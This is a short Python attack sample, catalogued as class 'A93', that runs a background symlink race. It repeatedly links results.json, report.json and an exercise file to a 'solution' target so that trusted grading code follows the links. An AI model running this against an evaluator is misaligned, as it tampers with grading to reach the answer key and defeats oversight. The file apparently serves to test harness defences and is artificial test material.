# /// attack
# class = "A93"
# title = "turns its folder into links while it is read"
# hope = "trusted code may follow a link that was not there a moment ago"
# ///
import os, threading
tried()
def race():
    for _ in range(3000):
        for name in ("results.json", "report.json", "ex05_attention.py"):
            try:
                os.symlink(TARGETS["solution"], name)
                os.unlink(name)
            except OSError:
                pass
threading.Thread(target=race, daemon=True).start()
